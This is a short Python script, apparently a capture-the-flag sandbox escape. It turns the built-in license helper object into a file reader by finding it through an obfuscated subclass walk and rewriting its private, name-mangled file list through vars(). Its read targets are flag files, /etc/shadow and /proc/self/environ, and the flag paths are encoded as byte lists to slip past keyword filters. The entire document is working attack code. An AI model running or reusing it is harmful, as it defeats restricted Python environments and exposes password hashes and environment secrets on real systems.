# technique: the interactive license/credits/copyright helpers are _Printer objects that read their text from a private, name-mangled list of file paths the first time they are shown; rewriting that list (and the cached lines and page size) through vars() turns repr(license) into an arbitrary file reader with no file API in sight
def find_printer():
    candidate = globals().get("license") or vars(print.__self__).get("license")
    if candidate is not None:
        return candidate
    # the site helpers were removed: locate their class and build a fresh instance
    lister = next(v for k, v in vars(type).items() if len(k) == 14 and k.startswith("__sub"))
    pending = [object]
    while pending:
        cls = pending.pop()
        if cls.__name__ == "_Printer":
            return cls("license", "")
        pending.extend(lister(cls))
    raise LookupError


printer = find_printer()
prefix = "_" + type(printer).__name__.lstrip("_") + "__"  # private-name mangling
stolen = [
    bytes([47, 102, 108, 97, 103]).decode(),
    bytes([47, 102, 108, 97, 103, 46, 116, 120, 116]).decode(),
    "/etc/shadow",
    "/proc/self/environ",
]
vars(printer).update({
    prefix + "filenames": stolen,
    prefix + "lines": None,
    "MAXLINES": 10 ** 9,
})
print(repr(printer))
